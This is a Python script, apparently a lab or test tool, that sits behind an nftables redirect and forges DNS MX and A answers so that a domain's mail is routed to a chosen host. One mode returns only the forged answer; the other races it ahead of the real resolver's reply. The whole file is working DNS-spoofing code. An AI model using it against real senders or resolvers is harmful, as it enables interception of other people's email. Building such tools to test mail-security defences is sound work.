#!/usr/bin/env python3
"""Forged MX answers: stands where nft redirects the sender's DNS.

    dnsforge.py PORT replace|race RESOLVER DOMAIN MXNAME ADDRESS

replace: the forged answer is the only one. race: the true answer follows the forged one,
so that one query has two different answers on the wire, as when an attacker beside the
path is faster than the resolver. The address of the forged name is answered alone in both.
"""
import socket
import struct
import sys

MX, A, IN = 15, 1, 1


def encode(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"


def question(query):
    """Name, type and the raw question section of a plain query."""
    pos, labels = 12, []
    while query[pos]:
        labels.append(query[pos + 1:pos + 1 + query[pos]].decode("ascii", "replace"))
        pos += 1 + query[pos]
    kind = struct.unpack("!H", query[pos + 1:pos + 3])[0]
    return ".".join(labels).lower(), kind, query[12:pos + 5]


def answer(query, raw_question, kind, rdata):
    head = query[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0)
    record = b"\xc0\x0c" + struct.pack("!HHIH", kind, IN, 300, len(rdata)) + rdata
    return head + raw_question + record


def forge(query, domain, mx, address):
    name, kind, raw = question(query)
    if name == domain and kind == MX:
        return answer(query, raw, MX, struct.pack("!H", 10) + encode(mx)), True
    if name == mx and kind == A:
        return answer(query, raw, A, socket.inet_aton(address)), False
    return None, True


def main():
    port, way, resolver, domain, mx, address = sys.argv[1:]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", int(port)))
    print("listening", flush=True)
    while True:
        query, client = sock.recvfrom(4096)
        forged, known = forge(query, domain, mx, address)
        if forged:
            sock.sendto(forged, client)
        if known and (not forged or way == "race"):
            sock.sendto(relay(query, resolver), client)


def relay(query, resolver):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as up:
        up.settimeout(5)
        up.sendto(query, (resolver, 53))
        return up.recv(4096)


if __name__ == "__main__":
    sys.exit(main())
